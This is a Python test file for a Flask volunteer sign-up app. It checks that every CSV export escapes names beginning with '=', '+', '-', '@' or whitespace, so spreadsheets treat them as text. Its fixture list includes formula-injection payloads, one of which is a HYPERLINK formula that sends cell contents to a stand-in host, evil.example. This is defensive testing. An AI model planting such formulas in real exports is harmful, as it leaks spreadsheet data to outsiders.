"""Every CSV export, found through the URL map, writes names so no spreadsheet evaluates them.

A volunteer can name themselves on the anonymous sign-up form; a name such as
``=HYPERLINK(...)`` must reach the coordinator's spreadsheet as text.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from flask import Flask
from flask.testing import FlaskClient

from tests.factories import (
    log_in,
    make_assignment,
    make_help_request,
    make_organisation,
    make_resident,
    make_volunteer,
)

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+32470123456",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+2",
)


def test_every_csv_export_writes_formula_names_as_text(app: Flask, client: FlaskClient) -> None:
    home = make_organisation()
    monday = datetime(2026, 11, 30, 9, 0, tzinfo=UTC)
    for n, name in enumerate(FORMULAS):
        helper = make_volunteer(home, first_name=name, last_name="")
        start = monday + timedelta(days=1, hours=n)
        request = make_help_request(
            make_resident(home, first_name=name),
            window_start=start,
            window_end=start + timedelta(hours=2),
            status="completed",
        )
        make_assignment(request, helper, starts_at=start, status="completed")
    log_in(client, home)
    exports = [
        rule
        for rule in app.url_map.iter_rules()
        if rule.rule.endswith(".csv") and "GET" in (rule.methods or ())
    ]
    assert exports, "no CSV export found"
    for rule in exports:
        response = client.get(f"{rule.rule}?period=week&start=2026-12-01")
        assert response.status_code == 200 and response.mimetype == "text/csv", rule.rule
        text = response.get_data(as_text=True)
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        for name in FORMULAS:
            written = [cell.rstrip() for cell in cells]
            assert "'" + name in written, f"{rule.rule}: {name!r} not written as text"
        # Nothing a spreadsheet would read as a formula, first spaces and tabs ignored.
        for cell in cells:
            assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")), cell
